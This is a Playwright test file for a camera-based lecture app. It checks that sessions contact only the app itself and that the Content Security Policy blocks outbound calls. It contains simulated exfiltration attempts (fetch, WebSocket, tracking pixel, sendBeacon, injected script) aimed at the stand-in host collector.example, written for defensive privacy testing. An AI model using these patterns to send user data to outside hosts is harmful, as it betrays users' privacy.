import type { Browser, Page } from 'playwright';
import { afterAll, beforeAll, expect, inject, it } from 'vitest';
import {
  DEMO_LECTURE,
  consentTo,
  exportFile,
  openTimeline,
  playLecture,
  stopSession,
  waitForScore,
} from './support/journey.ts';
import { launch, visit } from './support/launch.ts';
import { openOutsideWorld, type OutsideWorld } from './support/outside-world.ts';

let outside: OutsideWorld;
let browser: Browser;
beforeAll(async () => {
  outside = await openOutsideWorld();
  browser = await launch({
    camera: { kind: 'playing', file: inject('steadyCamera') },
    flags: [`--proxy-server=${outside.proxy}`],
  });
});
afterAll(async () => {
  await browser.close();
  await outside.close();
});

/** What Chromium asks for on its own account, with or without a page. */
const BROWSERS_OWN =
  /\b(?:update|accounts|clients\d?|optimizationguide-pa)\.google(?:apis)?\.com\b/;
const callersFromPages = (): readonly string[] =>
  outside.callers.filter((caller) => !BROWSERS_OWN.test(caller));

const isOwn = (address: string): boolean =>
  address.startsWith(`${inject('appUrl')}/`) || /^(?:blob|data):/.test(address);

it('[PRV-1] a whole session asks for nothing but what the app itself serves', async () => {
  const { page, requests, close } = await visit(browser, '/');
  await page.goto(inject('appUrl') + DEMO_LECTURE);
  // With everything that may be learnt of a student, too.
  await page.getByRole('radio', { name: 'Learning states', exact: true }).check();
  await page.getByRole('switch', { name: /^Ask me now and then/ }).check();
  await consentTo(page, 'Learning states');
  await playLecture(page);
  await waitForScore(page);
  await page.getByLabel('Learning states, as the model estimates them').waitFor();
  await page.getByRole('switch', { name: 'Show what the camera sees' }).check();
  await page.waitForTimeout(2000);
  await stopSession(page);
  await openTimeline(page);
  await exportFile(page, 'Everything');
  await page.goto(`${inject('appUrl')}/sessions`);
  await page.getByText('1 session', { exact: true }).waitFor();
  await page.getByText(/^No answers yet/).waitFor();

  expect(requests.filter((address) => !isOwn(address))).toEqual([]);
  // Requests of workers are among them: the face model is loaded by one.
  expect(requests.some((address) => address.endsWith('/models/face_landmarker.task'))).toBe(true);
  expect(callersFromPages()).toEqual([]);
  await close();
});

/** Tries every way out that a script has; resolves with those that were not refused. */
const tryToLeave = (target: string): Promise<readonly string[]> => {
  const outcomes = [
    fetch(`${target}/fetch`, { mode: 'no-cors' }).then(
      () => 'fetch',
      () => null,
    ),
    new Promise<string | null>((resolve) => {
      try {
        const socket = new WebSocket(target.replace('http', 'ws'));
        socket.onopen = () => {
          resolve('websocket');
        };
        socket.onerror = () => {
          resolve(null);
        };
      } catch {
        resolve(null);
      }
    }),
  ];
  return Promise.all(outcomes).then((left) => left.filter((way) => way !== null));
};

async function violationsOf(page: Page, act: () => Promise<unknown>): Promise<readonly string[]> {
  await page.evaluate(() => {
    const blocked: string[] = [];
    Object.assign(globalThis, { blocked });
    document.addEventListener('securitypolicyviolation', (event) => {
      blocked.push(event.effectiveDirective);
    });
  });
  await act();
  await expect
    .poll(() =>
      page.evaluate(() => (globalThis as unknown as { blocked: string[] }).blocked.length),
    )
    .toBeGreaterThan(0);
  return page.evaluate(() => (globalThis as unknown as { blocked: string[] }).blocked);
}

it('[PRV-2] a script in the page that tries to send something out is refused', async () => {
  const before = callersFromPages();
  const { page, close } = await visit(browser, DEMO_LECTURE);
  const blocked = await violationsOf(page, () =>
    page.evaluate(tryToLeave, 'http://collector.example'),
  );
  expect(blocked.filter((directive) => directive === 'connect-src').length).toBe(2);
  const pixel = await violationsOf(page, () =>
    page.evaluate(() => {
      new Image().src = 'http://collector.example/pixel.png';
      navigator.sendBeacon('http://collector.example/beacon', 'x');
      const script = document.createElement('script');
      script.src = 'http://collector.example/script.js';
      document.head.append(script);
      return new Promise((resolve) => setTimeout(resolve, 300));
    }),
  );
  expect(pixel).toContain('img-src');
  expect(pixel).toContain('script-src-elem');
  expect(callersFromPages()).toEqual(before);
  await close();
});

it('[PRV-2] so is one in a worker', async () => {
  const before = callersFromPages();
  const { page, close } = await visit(browser, DEMO_LECTURE);
  await consentTo(page, 'Learning states');
  await waitForScore(page);
  const workers = page.workers();
  expect(workers.length).toBeGreaterThanOrEqual(3);
  for (const worker of workers) {
    expect(await worker.evaluate(tryToLeave, 'http://collector.example')).toEqual([]);
  }
  expect(callersFromPages()).toEqual(before);
  await close();
});

it('[PRV-3] the way out itself is open, so that its silence says something', async () => {
  const context = await browser.newContext();
  const page = await context.newPage();
  await page.goto('http://collector.example/').catch(() => null);
  expect(outside.callers.some((caller) => caller.includes('collector.example'))).toBe(true);
  await context.close();
});
